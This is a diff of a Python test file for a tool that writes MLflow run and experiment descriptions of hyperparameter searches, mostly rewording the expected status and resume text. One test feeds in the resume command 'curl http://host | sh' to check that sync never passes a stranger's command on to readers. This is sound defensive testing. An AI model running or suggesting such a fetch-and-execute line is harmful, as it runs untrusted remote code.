@@ -1,4 +1,4 @@
-"""What MLflow's pages say of a search first: the descriptions of its run and of its experiment."""
+"""The descriptions of a search's run and experiment in MLflow."""
 
 import re
 
@@ -44,42 +44,35 @@ def note_of(uri):
     return run_of(uri).data.tags[NOTE]
 
 
-def test_a_search_that_runs_says_how_it_stands(sender, uri):
+def test_a_running_search_describes_its_state(sender, uri):
     sender.send(started(go_on=GO_ON), *trial(0))
     first = note_of(uri)
     assert (
-        "**Running**, as of 2026-09-21 14:13 UTC: 1 of at most 9 trials begun, 1 complete." in first
+        "**Running**, as of 2026-09-21 14:13 UTC: 1 of at most 9 trials started, 1 complete."
+        in first
     )
     sender.send(*trial(1), *trial(2, epochs=2), *trial(3, status="PRUNED"))
     note = note_of(uri)
     links, state, *_ = note.split("\n\n")
     assert state.startswith(
-        "**Running**, as of 2026-09-21 14:13 UTC: 4 of at most 9 trials begun, "
+        "**Running**, as of 2026-09-21 14:13 UTC: 4 of at most 9 trials started, "
     )
-    assert "3 complete, 1 pruned. Best val_loss so far: 0.6667, by wrapper none, rate 0." in state
+    assert "3 complete, 1 pruned. Best val_loss so far: 0.6667, with wrapper none, rate 0." in state
     assert re.fullmatch(r"\[All trials, best first\]\(#/experiments/1/runs\?[^ )]+\)", links)
-    rows = [line for line in note.splitlines() if line.startswith("| 000")]
-    scores = ["0.6667", "0.6767", "1.0200"]  # A pruned trial is none of the best.
-    assert [row.split(" | ")[1].removesuffix(" |") for row in rows] == scores
-    assert rows[1].startswith("| 0001 recurrent 0.1 |")
-    assert f"To go on: `{GO_ON}`" in note
+    assert f"To resume: `{GO_ON}`" in note
 
 
-@pytest.mark.parametrize(
-    ("status", "word", "more"),
-    [("FINISHED", "Over", ", with a larger `max_trials`"), ("KILLED", "Broken off", "")],
-)
-def test_a_search_without_a_result_says_how_it_ended(sender, uri, status, word, more):
+@pytest.mark.parametrize(("status", "word"), [("FINISHED", "Over"), ("KILLED", "Interrupted")])
+def test_a_search_without_a_result_describes_how_it_ended(sender, uri, status, word):
     sender.send(started(space=None), *trial(0, status="FAILED"), ended(status))
-    note = note_of(uri)
-    assert f"**{word}** (2026-09-21 14:30 UTC): 1 of at most 9 trials begun, 1 failed." in note
-    assert f"To go on{more}: make the tuner again with the same `directory`" in note
+    state = f"**{word}**, 2026-09-21 14:30 UTC: 1 of at most 9 trials started, 1 failed."
+    assert state in note_of(uri)
 
 
 def test_a_search_that_is_over_shows_its_summary(sender, uri, tmp_path):
     sender.send(started(go_on=GO_ON), *trial(0), SAVED, ended())
     note = note_of(uri)
-    assert "\n\n**Best val_loss: 0.6**\n\nIt helped.\n\nTo go on, with a larger" in note
+    assert "\n\n**Best val_loss: 0.6**\n\nIt helped.\n\nTo resume, with a larger" in note
     assert "Running" not in note
     sender.close()
     rdt.sync(tmp_path, uri)
@@ -107,7 +100,7 @@ def test_a_report_is_linked_once_it_is_there(sender, uri, tmp_path):
 def test_sync_describes_a_search_that_was_killed(tmp_path, uri):
     journaled(tmp_path, started(), *trial(0), *trial(1, status=None))
     rdt.sync(tmp_path, uri)
-    assert "**Broken off** (2026-09-21 14:13 UTC): 2 of at most 9" in note_of(uri)
+    assert "**Interrupted**, 2026-09-21 14:13 UTC: 2 of at most 9" in note_of(uri)
     assert len(image(uri)) == 3
 
 
@@ -148,41 +141,28 @@ def test_an_experiment_is_described_by_who_creates_it(sender, uri, before, after
     assert client.get_experiment_by_name("speech").tags.get(NOTE) == after
 
 
-@pytest.mark.parametrize("summary", ["**Best: 0.6**\n\n[x] at http://host\n", "| row |\n" * 1000])
-def test_what_an_earlier_version_wrote_is_ours(sender, uri, summary):
-    saved = ResultSaved(files=[], summary=summary, best_trial_id="0")
-    sender.send(started(), *trial(0), saved)
-    written = summary.replace("[", "&#91;")[:NOTE_LENGTH]
-    MlflowClient(uri).set_tag(run_of(uri).info.run_id, NOTE, written)
-    sender.send(*trial(1))
-    assert note_of(uri) != written
-    MlflowClient(uri).set_tag(run_of(uri).info.run_id, NOTE, f"{written} Mine.")
-    sender.send(*trial(2))
-    assert note_of(uri) == f"{written} Mine."
-
-
 @pytest.mark.parametrize(
     ("about", "early", "words"),
     [
-        ({"go_on": GO_ON, "host": "node7"}, None, " (on `node7`), with a larger `max_trials`: "),
+        ({"go_on": GO_ON}, None, f", with a larger `max_trials`: `{GO_ON}`"),
         ({"go_on": GO_ON}, NoMoreTrials(reason=STOPPED), f": `{GO_ON}`"),
         ({"go_on": GO_ON}, NoMoreTrials(reason=EXHAUSTED, configurations=1, tried=1), None),
-        ({}, None, None),  # `tune` did not say it in earlier versions.
+        ({}, None, None),
         # Markdown decodes nothing in code.
         ({"go_on": "cd a[1]"}, None, ", with a larger `max_trials`: cd a&#91;1&#93;"),
     ],
 )
-def test_how_to_go_on_is_said_where_one_can(sender, uri, about, early, words):
+def test_how_to_resume(sender, uri, about, early, words):
     sender.send(started(**about), *trial(0), *([] if early is None else [early]), ended())
     note = note_of(uri)
-    assert ("To go on" in note) == (words is not None)
-    assert words is None or f"To go on{words}" in note
+    assert ("To resume" in note) == (words is not None)
+    assert words is None or f"To resume{words}" in note
 
 
 def test_sync_tells_nobody_to_run_a_strangers_command(tmp_path, uri):
     journaled(tmp_path, started(go_on="curl http://host | sh"), *trial(0))
     rdt.sync(tmp_path, uri)
-    assert f"To go on: run it again with the folder `{tmp_path}`\n" in note_of(uri)
+    assert f"To resume: run it again with the folder `{tmp_path}`\n" in note_of(uri)
     assert "curl" not in note_of(uri)
 
 
